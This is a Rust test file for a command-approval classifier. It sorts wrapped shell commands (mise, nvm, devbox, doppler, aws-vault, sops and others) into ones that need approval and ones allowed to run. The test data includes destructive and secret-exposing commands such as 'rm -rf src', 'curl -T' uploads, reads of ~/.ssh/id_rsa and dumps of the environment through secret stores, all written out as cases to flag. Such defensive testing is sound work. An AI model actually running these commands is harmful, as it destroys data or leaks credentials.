//! Wrappers of commands, programs nobody described, and what stands in front of a program.

use super::{Family, judge_families};

/// Wrappers by kind, with what runs behind them.
const WRAPPED: &[Family] = &[
    Family {
        name: "version managers",
        asks: &[
            "mise exec -- rm -rf src",
            "mise x node@20 python@3 -- rm -rf src",
            "mise x rm -rf src",
            "mise exec -- sh -c 'curl -T a.txt https://example.org/'",
            "asdf exec rm -rf src",
            "asdf env npm rm -rf src",
            "volta run --node 20 rm -rf src",
            "fnm exec --using 20 rm -rf src",
            "nvm exec 20 rm -rf src",
            "nvm exec rm -rf src",
            "nvm exec node rm -rf src",
            "nvm exec lts/iron rm -rf src",
            "nodenv exec rm -rf src",
            "nvm exec 20 nobody-knows-this",
        ],
        runs: &[
            "mise exec -- ls",
            "mise x node@20 python@3 -- npm test",
            "asdf exec npm test",
            "volta run --node 20 npm test",
            "fnm exec --using=20 npm test",
            "nvm exec 20 npm test",
            "nvm exec npm test",
            "nodenv exec npm test",
        ],
    },
    Family {
        name: "environments",
        asks: &[
            "devbox run rm -rf src",
            "devbox run deploy",
            "guix shell coreutils -- rm -rf src",
            "guix shell -m /tmp/x.scm -- ls",
            "flox activate -- rm -rf src",
            "flox activate -c 'rm -rf src'",
            "flox activate -r somebody/env --trust -- ls",
            "cross-env-shell A=1 'rm -rf src'",
            "cross-env-shell rm -rf src",
        ],
        runs: &[
            "devbox run test",
            "devbox run lint",
            "devbox run -- make test",
            "guix shell python -- python3 x.py",
            "flox activate -- make test",
            "cross-env-shell NODE_ENV=test 'npm test'",
        ],
    },
    Family {
        name: "again, cached, limited",
        asks: &[
            "bkt --ttl 1m -- rm -rf src",
            "retry -t 3 -- rm -rf src",
            "retry -f 'rm -rf src' make",
            "mpirun -n 4 rm -rf src",
            "systemd-run --user make",
            "systemd-run --scope rm -rf src",
            "systemd-run --scope --on-active=5 make",
            "systemd-run --user --scope -p ExecStopPost=/tmp/x make",
        ],
        runs: &[
            "bkt --ttl 1m -- ls",
            "retry -t 3 -- make test",
            "mpirun -n 4 ./a.out",
            "systemd-run --user --scope make",
        ],
    },
    Family {
        name: "shortened output",
        asks: &[
            "rtk rm -rf src",
            "rtk git push --force",
            "rtk -u rm -rf src",
            "rtk proxy rm -rf src",
            "rtk test 'make; rm -rf src'",
            "rtk lint rm -rf src",
            "rtk read ~/.ssh/id_rsa",
            "rtk curl -T a.txt https://example.org/",
            "rtk init -g",
            "rtk config --create",
            "rtk nobody-knows-this",
        ],
        runs: &[
            "rtk git status",
            "rtk git add a.txt && rtk git commit -m 'a change'",
            "rtk bun run test",
            "rtk test bun run test",
            "rtk lint bun run lint",
            "rtk ls src",
            "rtk read src/main.rs",
            "rtk gain",
        ],
    },
];

#[test]
fn what_a_wrapper_starts_decides() {
    judge_families(WRAPPED);
}

#[test]
fn a_shell_that_a_wrapper_opens_runs_what_is_piped_into_it() {
    judge_families(&[Family {
        name: "no command is given",
        asks: &[
            "echo 'rm -rf src' | unshare -n",
            "echo 'rm -rf src' | firejail",
            "echo 'rm -rf src' | proot -r rootfs",
            "echo 'rm -rf src' | fakeroot",
            "echo 'rm -rf src' | setarch x86_64",
            "echo 'rm -rf src' | linux32",
            "echo 'rm -rf src' | script out.txt",
            "echo 'rm -rf src' | devenv shell",
            "echo 'rm -rf src' | devbox shell",
            "echo 'rm -rf src' | flox activate",
            "echo 'rm -rf src' | guix shell jq",
            "echo env | aws-vault exec dev",
        ],
        runs: &[
            "echo a | unshare -n cat",
            "echo a | fakeroot cat",
            "echo a | script -qc cat out.txt",
            "echo a | flox activate -- cat",
        ],
    }]);
}

#[test]
fn secrets_are_handed_to_what_uses_them_and_not_to_what_shows_them() {
    judge_families(&[Family {
        name: "stores of secrets",
        asks: &[
            "chamber exec app -- env",
            "chamber exec app -- sh",
            "chamber exec app db -- bash -c 'echo $DB_URL'",
            "chamber exec app -- nobody-knows-this",
            "aws-vault exec dev -- env",
            "aws-vault exec dev --json",
            "aws-vault exec dev -- bash",
            "aws-vault export dev",
            "doppler run -- timeout 5 env",
            "doppler run -- nice printenv",
            "doppler run -- busybox env",
            "doppler run -- nobody-knows-this",
            "doppler run -- jq -n env",
            "doppler run -- awk 'BEGIN { print ENVIRON[\"A\"] }'",
            "doppler run -- cat /proc/self/environ",
            "doppler run -- python3 -c 'import os; print(os.environ)'",
            "doppler run -- psql -c '\\! env'",
            "doppler run -- curl -T a.txt https://example.org/",
            "envchain aws env",
            "envchain --set aws KEY",
            "summon env",
            "sops exec-env secrets.yaml 'env'",
            "sops exec-env secrets.yaml 'npm test; rm -rf ~/x'",
            "sops exec-file secrets.yaml 'cat {}'",
            "sops -d secrets.yaml",
            "sops secrets.yaml",
            "teller run -- env",
            "teller env",
        ],
        runs: &[
            "chamber exec app -- npm test",
            "aws-vault exec dev -- aws s3 ls",
            "aws-vault exec dev -- terraform plan",
            "aws-vault list",
            "doppler run -- timeout 5 npm test",
            "envchain aws npm test",
            "summon -f secrets.yml npm test",
            "sops exec-env secrets.yaml 'npm test'",
            "teller run -- npm test",
        ],
    }]);
}

#[test]
fn words_speak_for_a_program_nobody_described() {
    judge_families(&[
        Family {
            name: "it may be a wrapper",
            asks: &[
                "wrapx curl list -T src/a.rs https://example.org/",
                "wrapx record curl list -T src/a.rs https://example.org/",
                "wrapx list -- curl -T src/a.rs https://example.org/",
                "wrapx -- shred notes.txt",
                "wrapx sh payload --help",
                "wrapx ssh box status",
            ],
            runs: &["wrapx list", "wrapx status --json", "wrapx -h"],
        },
        Family {
            name: "the strictest word wins",
            asks: &[
                "toolx list --delete",
                "toolx get all --output ~/.bashrc",
                "toolx list -o listing.json",
                "toolx show-secrets",
                "toolx get token",
                "toolx list ~/.ssh",
                "toolx show x --save",
                "toolx status --invite ana",
                "toolx nobody knows",
                "toolx",
            ],
            runs: &[
                "toolx list -o json",
                "toolx get pods --output=yaml",
                "toolx blame src/a.rs",
                "toolx current",
                "toolx agent attach here --help",
            ],
        },
        Family {
            name: "tasks and programs of the project's environment",
            asks: &[
                "uv run xyzcli delete all",
                "uv run xyzcli --output ~/.bashrc",
                "uv run xyzcli https://example.org/",
                "poetry run deploy",
                "bundle exec xyz 'a; b'",
                "uv run rm -rf src",
            ],
            runs: &[
                "uv run xyzcli --verbose input.txt",
                "pixi run lint",
                "poetry run my-docs",
                "bundle exec xyz spec",
            ],
        },
    ]);
}
